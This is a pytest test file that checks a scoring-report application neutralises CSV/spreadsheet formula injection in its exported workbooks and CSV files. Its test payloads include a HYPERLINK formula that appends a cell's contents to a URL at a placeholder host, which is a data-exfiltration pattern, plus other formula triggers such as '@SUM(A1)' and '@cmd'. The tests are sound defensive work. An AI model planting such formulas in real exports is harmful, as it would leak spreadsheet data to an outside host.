"""Formula injection (OWASP CSV injection) is neutralised in every workbook and CSV we write."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlmodel import Session

from cchc.safe_export import safe_text, unsafe_text, write_csv
from models.results.compute import compute_results
from models.scoring.self_assessments import save_draft
from report.build import write_report
from report.workbook import SHEET, read_workbook, write_template
from tests.world.scoring import scoring_campaign, submit

LINK = '=HYPERLINK("http://example.invalid/?"&A1,"Bấm vào đây")'
ATTACKS = (LINK, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1")


@pytest.mark.parametrize("text", ATTACKS)
def test_safe_text_prefixes_every_formula_trigger(text: str) -> None:
    assert safe_text(text) == "'" + text
    assert unsafe_text(safe_text(text)) == text


def test_safe_text_leaves_plain_text_and_numbers() -> None:
    assert [safe_text(v) for v in ("Sở Nội vụ", "'quoted", -1.5, 3, None)] == [
        "Sở Nội vụ",
        "'quoted",
        -1.5,
        3,
        None,
    ]


def _formulas(path: Path) -> list[str]:
    """Return every cell of the workbook that a spreadsheet would run as a formula."""
    book = load_workbook(path)
    return [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f" or (isinstance(cell.value, str) and cell.value.startswith("="))
    ]


def test_the_self_assessment_template_writes_no_formula(session: Session, tmp_path: Path) -> None:
    campaign, (unit,) = scoring_campaign(session, ["a"])
    unit.name = LINK
    session.add(unit)
    body = {"1.1": {"score": 1.0, "explanation": LINK}}
    save_draft(session=session, campaign_id=campaign.id, unit_id=unit.id, scores=body, actor="a")
    session.commit()
    path = write_template(session=session, campaign=campaign, unit=unit, path=tmp_path / "t.xlsx")
    assert _formulas(path) == []
    explanation = next(
        r[4] for r in load_workbook(path)[SHEET].iter_rows(min_row=6) if r[0].value == "1.1"
    )
    assert (explanation.value, explanation.data_type) == ("'" + LINK, "s")
    assert read_workbook(path).scores["1.1"]["explanation"] == LINK  # read back as written


def test_the_published_workbook_writes_no_formula(session: Session, tmp_path: Path) -> None:
    campaign, (a, b) = scoring_campaign(session, ["a", "b"])
    a.name, b.name = LINK, "@cmd"
    session.add_all([a, b])
    submit(session, campaign, a, {"1.1": 2.0, "1.2.1": 1.0, "1.2.2": 0.5})
    submit(session, campaign, b, {"1.1": 1.0, "1.2.1": 1.0, "1.2.2": 0.5})
    compute_results(session=session, campaign_id=campaign.id)
    paths = write_report(session=session, campaign=campaign, folder=tmp_path)
    assert _formulas(Path(paths["xlsx"])) == []
    ranking = load_workbook(paths["xlsx"])["XH Sở, ban, ngành"]
    assert [ranking.cell(r, 2).value for r in (4, 5)] == ["'" + LINK, "'@cmd"]


def test_csv_files_neutralise_formulas(tmp_path: Path) -> None:
    """write_csv is what the demo's survey file (and any CSV we write) goes through."""
    path = write_csv(tmp_path / "x.csv", [["unit_code", "note", "score"], ["a", LINK, 1.5]])
    with path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows == [["unit_code", "note", "score"], ["a", "'" + LINK, "1.5"]]
